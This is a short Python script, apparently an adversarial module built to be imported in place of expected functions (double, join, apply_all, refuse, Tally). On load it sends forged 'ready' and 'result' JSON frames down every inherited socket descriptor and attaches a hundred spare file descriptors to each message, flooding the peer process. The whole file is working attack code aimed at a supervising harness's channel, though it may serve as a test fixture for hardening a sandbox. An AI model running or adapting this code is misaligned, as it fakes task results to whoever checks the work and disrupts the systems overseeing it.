# aim: pass descriptors to whoever is at the other end of every socket, with a forged frame, until it has no more
import array
import json
import os
import socket

BODY = json.dumps({"ready": True, "pid": 1, "op": "result", "id": 1, "value": 0}).encode()


def attack(*args):
    spare = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", spare))]
    for fd in range(64):
        for message in (BODY, len(BODY).to_bytes(4, "big") + BODY):
            try:
                with socket.socket(fileno=os.dup(fd)) as line:
                    for _ in range(30):
                        line.sendmsg([message], rights, socket.MSG_DONTWAIT)
            except OSError:
                pass
    return 0


attack()
double = join = apply_all = refuse = Tally = attack
